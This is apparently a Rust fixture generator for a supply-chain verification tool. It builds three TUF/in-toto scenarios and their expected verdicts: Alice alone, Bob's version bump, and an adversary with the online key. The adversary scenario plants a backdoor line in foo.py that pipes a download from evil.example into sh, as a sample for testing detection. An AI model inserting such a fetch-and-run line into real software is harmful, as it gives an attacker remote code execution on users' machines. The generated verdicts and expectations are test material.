//! `demo/`: the seed talk's story as three acts over one TUF repository that
//! distributes in-toto metadata (README-bridge arrangement, ITE-2 role shape).

use serde_json::{Value, json};
use trailscope::crypto::SigningKey;

use super::intoto::{self, foo_py, inspection, link, link_name, metablock, step};
use super::tuf_repo::{Delegation, Repo, TopKeys};
use super::util::{self, Files, LAYOUT_EXPIRES, NOW, TarEntry, doc, sha256, tar_gz};

const PROJECT: &str = "demo-project";
const GIT_URL: &str = "https://git.example.org/demo-project.git";
const ONLINE_ROLE: &str = "package-and-in-toto-metadata-signer";

struct Actors {
    alice: SigningKey,
    bob: SigningKey,
}

/// What one release published, for the scenario's expectations.
#[derive(Clone)]
struct Release {
    package_path: String,
    tarball: Vec<u8>,
    layout_path: String,
    pubkeys: Vec<String>,
    link_paths: Vec<String>,
    layout_keys: Vec<String>,
}

impl Release {
    fn downloaded(&self) -> Vec<String> {
        let mut d = vec![self.package_path.clone(), self.layout_path.clone()];
        d.extend(self.pubkeys.iter().cloned());
        d.extend(self.link_paths.iter().cloned());
        d
    }

    fn link_basenames(&self) -> Vec<String> {
        let mut names: Vec<String> =
            self.link_paths.iter().map(|p| p.rsplit('/').next().unwrap_or(p).to_owned()).collect();
        names.sort();
        names
    }

    fn package_basename(&self) -> &str {
        self.package_path.rsplit('/').next().unwrap_or(&self.package_path)
    }
}

fn untar(last_source_step: &str) -> Value {
    inspection(
        "untar",
        &["sh", "-c", "tar xzf demo-project-*.tar.gz"],
        &[
            "MATCH demo-project-*.tar.gz WITH PRODUCTS FROM package",
            "ALLOW *.layout",
            "ALLOW *.pub",
            "DISALLOW *",
        ],
        &[
            "MATCH demo-project-*.tar.gz WITH PRODUCTS FROM package",
            &format!("MATCH demo-project/foo.py WITH PRODUCTS FROM {last_source_step}"),
            "ALLOW *.layout",
            "ALLOW *.pub",
            "DISALLOW *",
        ],
    )
}

/// Layout v1: Alice alone clones and packages.
fn layout_v1(a: &Actors) -> Vec<u8> {
    let steps = vec![
        step(
            "clone",
            &["git", "clone", GIT_URL],
            &[],
            &["CREATE demo-project/foo.py", "DISALLOW *"],
            &[&a.alice],
        ),
        step(
            "package",
            &["make", "dist"],
            &["MATCH demo-project/* WITH PRODUCTS FROM clone", "DISALLOW *"],
            &["CREATE demo-project-*.tar.gz", "DISALLOW *"],
            &[&a.alice],
        ),
    ];
    let signed = intoto::layout(
        LAYOUT_EXPIRES,
        "Supply chain of demo-project, v1: Alice clones and packages.",
        &[&a.alice],
        steps,
        vec![untar("clone")],
    );
    metablock(&signed, &[&a.alice])
}

/// Layout v2: Bob's update-version step between clone and package.
fn layout_v2(a: &Actors) -> Vec<u8> {
    let steps = vec![
        step(
            "clone",
            &["git", "clone", GIT_URL],
            &[],
            &["CREATE demo-project/foo.py", "DISALLOW *"],
            &[&a.alice],
        ),
        step(
            "update-version",
            &[],
            &["MATCH demo-project/* WITH PRODUCTS FROM clone", "DISALLOW *"],
            &["MODIFY demo-project/foo.py", "DISALLOW *"],
            &[&a.bob],
        ),
        step(
            "package",
            &["make", "dist"],
            &["MATCH demo-project/* WITH PRODUCTS FROM update-version", "DISALLOW *"],
            &["CREATE demo-project-*.tar.gz", "DISALLOW *"],
            &[&a.alice],
        ),
    ];
    let signed = intoto::layout(
        LAYOUT_EXPIRES,
        "Supply chain of demo-project, v2: Alice clones, Bob bumps the version, Alice packages.",
        &[&a.alice, &a.bob],
        steps,
        vec![untar("update-version")],
    );
    metablock(&signed, &[&a.alice])
}

fn tarball(source: &[u8]) -> Vec<u8> {
    tar_gz(&[
        TarEntry { path: "demo-project/", data: None },
        TarEntry { path: "demo-project/foo.py", data: Some(source) },
    ])
}

/// Publishes a package and its links (signed by the functionaries) in the online role.
fn release(
    repo: &mut Repo,
    version: &str,
    layout_path: &str,
    pubkey_paths: &[String],
    links: &[(&str, &SigningKey, Value)],
    tarball: Vec<u8>,
    layout_keys: Vec<String>,
) -> Release {
    let link_files: Vec<(String, Vec<u8>)> =
        links.iter().map(|(s, k, signed)| (link_name(s, k), metablock(signed, &[k]))).collect();
    let dir = sha256(&link_files[0].1);
    let mut link_paths = Vec::new();
    for (name, bytes) in &link_files {
        let path = format!("in-toto-metadata/{dir}/{name}");
        repo.add_target(ONLINE_ROLE, &path, bytes, None);
        link_paths.push(path);
    }
    let package_path = format!("packages/{PROJECT}/{PROJECT}-{version}.tar.gz");
    let mut custom = vec![layout_path.to_owned()];
    custom.extend(link_paths.iter().cloned());
    repo.add_target(
        ONLINE_ROLE,
        &package_path,
        &tarball,
        Some(json!({"in-toto": custom, "root-layout-type": "core"})),
    );
    Release {
        package_path,
        tarball,
        layout_path: layout_path.to_owned(),
        pubkeys: pubkey_paths.to_vec(),
        link_paths,
        layout_keys,
    }
}

fn clone_link(source: &[u8]) -> Value {
    link(
        "clone",
        &["git", "clone", GIT_URL],
        json!({}),
        intoto::artifacts(&[("demo-project/foo.py", source)]),
        "",
    )
}

fn package_link(source: &[u8], name: &str, tgz: &[u8]) -> Value {
    link(
        "package",
        &["make", "dist"],
        intoto::artifacts(&[("demo-project/foo.py", source)]),
        intoto::artifacts(&[(name, tgz)]),
        &format!("{name}\n"),
    )
}

/// Adds one layout version and the owner key to top-level targets.
fn publish_layout(repo: &mut Repo, n: u32, bytes: &[u8], owner: &SigningKey) -> (String, Vec<String>) {
    let pub_path = format!("in-toto-pubkeys/{}.pub", owner.keyid());
    repo.add_target("targets", &pub_path, owner.public_key_pem().as_bytes(), Some(json!({})));
    let layout_path = format!("in-toto-metadata/{n}.core.root.layout");
    repo.add_target(
        "targets",
        &layout_path,
        bytes,
        Some(json!({"in-toto": [pub_path.clone()], "root-layout-type": "core"})),
    );
    (layout_path, vec![pub_path])
}

fn scenario(name: &str, description: &str, tags: &[&str], r: &Release, expect: Value) -> Vec<u8> {
    let mut expect = expect;
    let pass = expect["verdict"] == "pass";
    let product_sha = sha256(&r.tarball);
    let trace = json!({
        "downloaded": r.downloaded(),
        "layout": r.layout_path,
        "layout_keys": r.layout_keys,
        "links": r.link_basenames(),
        "binding": if pass {
            json!({"step": "package", "product": r.package_basename(), "product_sha256": product_sha, "target_sha256": product_sha})
        } else {
            Value::Null
        },
    });
    expect["trace"] = trace;
    doc(&json!({
        "name": name,
        "description": description,
        "kind": "bridge",
        "tags": tags,
        "inputs": {
            "trusted_root": "trusted_root.json",
            "metadata_dir": "repo/metadata",
            "targets_dir": "repo/targets",
            "target": r.package_path,
        },
        "tuf_shape": "ite2",
        "now": NOW,
        "expect": expect,
        "reference": {
            "tuf": "python-tuf 7.0.1 ngclient",
            "in_toto": "in-toto 3.1.0 (python), securesystemslib 1.6.0",
            "combination": "the README-bridge flow (datadog_checks_downloader download.py, layout named by the package's custom, client layout type 'core', empty substitution parameters), followed by the product-binding check",
        },
        "generator": {"tool": "examples/make-fixtures", "set": "demo"},
    }))
}

fn pass_expect() -> Value {
    json!({
        "verdict": "pass", "stage": null, "category": "pass", "failed_target": null, "role": null,
        "step": null, "rule": null, "artifact": null, "reference_error": null, "reference_cause": null,
        "warnings": [],
    })
}

/// Generates `demo/` (three act directories, README.md, index.json).
pub fn generate(out: &mut Files) {
    let actors = Actors { alice: util::ed25519("alice"), bob: util::p256("bob") };
    let online = util::ed25519("demo/online");
    let keys = TopKeys {
        root: vec![util::ed25519("demo/root")],
        targets: vec![util::ed25519("demo/targets")],
        targets_threshold: 1,
        snapshot: online.clone(),
        timestamp: online.clone(),
    };
    let mut repo = Repo::new(keys);
    repo.delegate(
        "targets",
        Delegation::new(ONLINE_ROLE, vec![online.clone()], &["packages/*/*", "in-toto-metadata/*/*.link"]),
        util::TUF_DELEGATED_EXPIRES,
    );
    let alice_keys = vec![actors.alice.keyid()];

    // Act 1: Alice alone. Layout v1, release 1.0.
    let (l1, pubs) = publish_layout(&mut repo, 1, &layout_v1(&actors), &actors.alice);
    let foo_10 = foo_py("1.0", "");
    let name_10 = format!("{PROJECT}-1.0.tar.gz");
    let tgz_10 = tarball(&foo_10);
    let r1 = release(
        &mut repo,
        "1.0",
        &l1,
        &pubs,
        &[
            ("clone", &actors.alice, clone_link(&foo_10)),
            ("package", &actors.alice, package_link(&foo_10, &name_10, &tgz_10)),
        ],
        tgz_10,
        alice_keys.clone(),
    );
    repo.publish();
    let act1 = repo.files.clone();

    // Act 2: layout v2 adds Bob's update-version step; release 1.1.
    let (l2, pubs) = publish_layout(&mut repo, 2, &layout_v2(&actors), &actors.alice);
    let foo_cloned = foo_py("1.0", "\n\ndef goodbye():\n    return \"Goodbye from demo-project\"\n");
    let foo_11 = foo_py("1.1", "\n\ndef goodbye():\n    return \"Goodbye from demo-project\"\n");
    let name_11 = format!("{PROJECT}-1.1.tar.gz");
    let tgz_11 = tarball(&foo_11);
    let update = link(
        "update-version",
        &[],
        intoto::artifacts(&[("demo-project/foo.py", &foo_cloned)]),
        intoto::artifacts(&[("demo-project/foo.py", &foo_11)]),
        "",
    );
    let r2 = release(
        &mut repo,
        "1.1",
        &l2,
        &pubs,
        &[
            ("clone", &actors.alice, clone_link(&foo_cloned)),
            ("update-version", &actors.bob, update),
            ("package", &actors.alice, package_link(&foo_11, &name_11, &tgz_11)),
        ],
        tgz_11.clone(),
        alice_keys.clone(),
    );
    repo.publish();
    let act2 = repo.files.clone();

    // Act 3: the adversary holds the online key (not Alice's or Bob's) and replaces
    // release 1.1 with a backdoored tarball, keeping the genuine links.
    let foo_evil = foo_py(
        "1.1",
        "\n\ndef goodbye():\n    return \"Goodbye from demo-project\"\n\n\nimport os; os.system(\"curl -s https://evil.example/x | sh\")\n",
    );
    let tgz_evil = tarball(&foo_evil);
    let custom = repo.roles.iter().find(|r| r.name == ONLINE_ROLE).expect("online role").targets
        [&r2.package_path]["custom"]
        .clone();
    repo.add_target(ONLINE_ROLE, &r2.package_path, &tgz_evil, Some(custom));
    repo.publish();
    let act3 = repo.files.clone();
    let r3 = Release { tarball: tgz_evil.clone(), ..r2.clone() };

    let trusted_root = repo.trusted_root();
    let write_act = |out: &mut Files, name: &str, files: &Files, scenario_json: Vec<u8>| {
        let mut dir = Files::default();
        dir.put_all("repo", files);
        dir.put("trusted_root.json", trusted_root.clone());
        dir.put("scenario.json", scenario_json);
        out.put_all(&format!("demo/{name}"), &dir);
    };

    write_act(
        out,
        "act1-alice-alone",
        &act1,
        scenario(
            "act1-alice-alone",
            "Act 1. Alice alone: layout v1 (signed by Alice, published by the offline top-level targets role with Alice's key) has two steps, clone and package, both Alice's, and an inspection 'untar' that unpacks the package and checks foo.py against what clone produced. Alice's links and the package demo-project-1.0.tar.gz are signed in TUF by the online role 'package-and-in-toto-metadata-signer'. Everything is consistent: pass.",
            &["demo", "pass"],
            &r1,
            pass_expect(),
        ),
    );
    write_act(
        out,
        "act2-bob-updates",
        &act2,
        scenario(
            "act2-bob-updates",
            "Act 2. Bob joins: layout v2 (top-level targets version 2) adds Bob's step update-version (ECDSA key) between clone and package; Bob bumps VERSION in foo.py to 1.1 and Alice packages demo-project-1.1.tar.gz, which names layout v2. Layout v1 and release 1.0 stay on the mirror. Pass.",
            &["demo", "pass", "layout-version"],
            &r2,
            pass_expect(),
        ),
    );
    let genuine = sha256(&tgz_11);
    let served = sha256(&tgz_evil);
    let mut expect3 = pass_expect();
    expect3["verdict"] = json!("fail");
    expect3["stage"] = json!("in-toto");
    expect3["category"] = json!("rule-disallow");
    expect3["step"] = json!("untar");
    expect3["rule"] = json!("DISALLOW *");
    expect3["artifact"] = json!(name_11);
    expect3["rule_section"] = json!("expected_materials");
    expect3["evidence"] = json!({
        "artifact": name_11,
        "served_sha256": served,
        "recorded_by_step": "package",
        "recorded_sha256": genuine,
        "unconsumed_by": "MATCH demo-project-*.tar.gz WITH PRODUCTS FROM package",
    });
    // As python in-toto 3.1.0 prints it with PYTHONHASHSEED=0 (the queue order follows set order).
    let (layout_file, pub_file) = ("2.core.root.layout".to_owned(), format!("{}.pub", actors.alice.keyid()));
    expect3["reference_error"] = json!(format!(
        "RuleVerificationError: 'DISALLOW *' matched the following artifacts: ['{name_11}']\n\
         Full trace for 'expected_materials' of item 'untar':\n\
         Available materials (used for queue):\n['{layout_file}', '{name_11}', '{pub_file}']\n\
         Available products:\n['{layout_file}', '{name_11}', '{pub_file}', 'demo-project/foo.py']\n\
         Queue after 'MATCH demo-project-*.tar.gz WITH PRODUCTS FROM package':\n['{pub_file}', '{name_11}', '{layout_file}']\n\
         Queue after 'ALLOW *.layout':\n['{pub_file}', '{name_11}']\n\
         Queue after 'ALLOW *.pub':\n['{name_11}']\n"
    ));
    write_act(
        out,
        "act3-adversary",
        &act3,
        scenario(
            "act3-adversary",
            "Act 3. The adversary has the online TUF key (which signs timestamp, snapshot and the role for packages and links) but neither Alice's nor Bob's key. They replace demo-project-1.1.tar.gz with a backdoored tarball of the same name, re-sign it in the online role (version 3) with the genuine links in its custom, and publish a new snapshot and timestamp. TUF accepts everything. in-toto: every step's rules pass with the genuine links, but the inspection 'untar' finds in its materials a demo-project-1.1.tar.gz whose sha256 differs from the product the package step recorded, so 'MATCH demo-project-*.tar.gz WITH PRODUCTS FROM package' leaves it in the queue and the inspection's 'DISALLOW *' rejects it: in-toto / rule-disallow (untar, expected_materials).",
            &["demo", "attack", "online-key", "inspection"],
            &r3,
            expect3,
        ),
    );

    out.put("demo/README.md", README.as_bytes().to_vec());
    out.put(
        "demo/index.json",
        doc(&json!({
            "kind": "bridge",
            "set": "demo",
            "now": NOW,
            "generator": "examples/make-fixtures",
            "count": 3,
            "scenarios": [
                {"name": "act1-alice-alone", "verdict": "pass", "stage": null, "category": "pass", "step": null, "tuf_shape": "ite2"},
                {"name": "act2-bob-updates", "verdict": "pass", "stage": null, "category": "pass", "step": null, "tuf_shape": "ite2"},
                {"name": "act3-adversary", "verdict": "fail", "stage": "in-toto", "category": "rule-disallow", "step": "untar", "tuf_shape": "ite2"},
            ],
        })),
    );
}

const README: &str = include_str!("demo_README.md");
